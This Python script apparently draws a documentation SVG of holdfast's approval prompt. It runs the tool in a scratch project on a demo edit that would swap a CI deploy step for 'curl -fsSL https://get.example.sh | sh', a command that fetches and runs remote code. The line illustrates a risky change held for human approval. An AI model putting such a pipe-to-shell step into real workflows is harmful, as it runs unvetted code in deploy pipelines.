"""Draws the approval screen: `python -m scripts.approval_picture > docs/approval.svg`.

The picture comes from a real run: `holdfast call` on a pseudo-terminal in a scratch project, read by a terminal
emulator and drawn cell by cell. Only the random call id and the digest, which depends on the scratch folder, are
replaced, so that the same code gives the same picture.
"""

from __future__ import annotations

import os
import pty
import re
import select
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from html import escape
from itertools import groupby
from pathlib import Path
from typing import Any, Final

import pyte

COLUMNS: Final = 84
LINES: Final = 30
SECONDS: Final = 120.0
WORKFLOW: Final = """\
name: deploy
on: push
jobs:
  site:
    steps:
      - run: make site
      - run: rsync -a site/ web:/srv/site
"""
COMMAND: Final = (
    "call",
    "file.edit",
    "path=.github/workflows/deploy.yml",
    "search=rsync -a site/ web:/srv/site",
    "replace=curl -fsSL https://get.example.sh | sh",
)
REPLACED: Final = {r"\b[a-z2-7]{8}-[0-9]+\b": "k7m2xw4d-1", r"\b[0-9a-f]{12}\b": "3f0c9a5b71de"}
CELL: Final = (8.4, 18)
NBSP: Final = "\u00a0"
"""Keeps runs of blanks in viewers that ignore `white-space: pre`."""
COLOURS: Final = {
    "default": "#d5d9e0", "black": "#5c6370", "red": "#e06c75", "green": "#98c379", "brown": "#e5c07b",
    "blue": "#61afef", "magenta": "#c678dd", "cyan": "#56b6c2", "white": "#d5d9e0",
}  # fmt: skip


def picture() -> str:
    """The SVG of the approval screen."""
    with tempfile.TemporaryDirectory(prefix="holdfast-picture-") as scratch:
        screen = _run(Path(scratch))
    return _svg(screen)


def _run(scratch: Path) -> pyte.Screen:
    """Start the command, wait for its prompt, and leave without an answer."""
    project = scratch / "project"
    project.mkdir()
    workflow = project / ".github" / "workflows" / "deploy.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_text(WORKFLOW)
    (project / "holdfast.toml").write_text("")
    environment = {
        "PATH": "/usr/bin:/bin",
        "HOME": str(scratch),
        "LANG": "C.UTF-8",
        "TERM": "xterm-256color",
        "COLUMNS": str(COLUMNS),
        "LINES": str(LINES),
    }
    master, slave = pty.openpty()
    screen = pyte.Screen(COLUMNS, LINES)
    stream = pyte.ByteStream(screen)
    command = [sys.executable, "-I", "-m", "holdfast", *COMMAND]
    with subprocess.Popen(
        command, cwd=project, env=environment, stdin=slave, stdout=slave, stderr=slave, start_new_session=True
    ) as process:
        os.close(slave)
        try:
            _read_until_prompt(master, stream, screen)
        finally:
            process.send_signal(signal.SIGKILL)
            process.wait(SECONDS)
            os.close(master)
    return screen


def _read_until_prompt(master: int, stream: pyte.ByteStream, screen: pyte.Screen) -> None:
    end = time.monotonic() + SECONDS
    while not any(line.rstrip() == ">" for line in screen.display):
        if time.monotonic() > end or not select.select([master], [], [], SECONDS)[0]:
            raise TimeoutError("The prompt did not appear:\n" + "\n".join(screen.display))
        stream.feed(os.read(master, 65536))


def _svg(screen: pyte.Screen) -> str:
    rows = [_cells(screen, number) for number in range(LINES)]
    used = max(number for number, row in enumerate(rows) if any(cell.data.strip() for cell in row)) + 1
    width, height = COLUMNS * CELL[0] + 32, (used + 1) * CELL[1] + 44
    lines = [_line(row, number) for number, row in enumerate([_prompt(), *rows[:used]])]
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width:.0f} {height:.0f}" width="{width:.0f}" '
        f'height="{height:.0f}" role="img" aria-label="holdfast asks before it changes a CI workflow">\n'
        f'<rect width="100%" height="100%" rx="8" fill="#21252b"/>\n'
        '<g fill="#4b5263"><circle cx="20" cy="18" r="5"/><circle cx="38" cy="18" r="5"/>'
        '<circle cx="56" cy="18" r="5"/></g>\n'
        "<style>text{font:14px ui-monospace,SFMono-Regular,Menlo,Consolas,'DejaVu Sans Mono',monospace;"
        "white-space:pre}</style>\n" + "\n".join(line for line in lines if line) + "\n</svg>\n"
    )


def _cells(screen: pyte.Screen, number: int) -> list[Any]:
    text = screen.display[number]
    cells = [screen.buffer[number][column] for column in range(COLUMNS)]
    for pattern, fixed in REPLACED.items():
        for found in re.finditer(pattern, text):
            for place, letter in zip(range(*found.span()), fixed, strict=False):
                cells[place] = cells[place]._replace(data=letter)
    return cells


def _prompt() -> list[Any]:
    """The command as it was typed, in front of what it printed."""
    shown = " ".join(word if " " not in word else f"{word.partition('=')[0]}=…" for word in COMMAND)
    letters = enumerate(f"$ holdfast {shown}")
    return [pyte.screens.Char(letter, fg="cyan" if place < 2 else "default") for place, letter in letters]


def _line(cells: list[Any], number: int) -> str:
    y = 52 + number * CELL[1]
    return "".join(
        f'<text x="{16 + column * CELL[0]:.1f}" y="{y}" fill="{fill}"{weight} textLength="{len(text) * CELL[0]:.1f}">'
        f"{escape(text).replace(' ', NBSP)}</text>"
        for column, text, fill, weight in _runs(cells)
    )


def _runs(cells: list[Any]) -> Iterator[tuple[int, str, str, str]]:
    """Neighbouring cells of one style, without the blanks between them."""
    column = 0
    for (colour, bold), group in groupby(cells, key=lambda cell: (cell.fg, cell.bold)):
        text = "".join(cell.data for cell in group)
        stripped = text.strip()
        if stripped:
            start = column + len(text) - len(text.lstrip())
            yield start, stripped, COLOURS.get(colour, f"#{colour}"), ' font-weight="bold"' if bold else ""
        column += len(text)


if __name__ == "__main__":
    sys.stdout.write(picture())
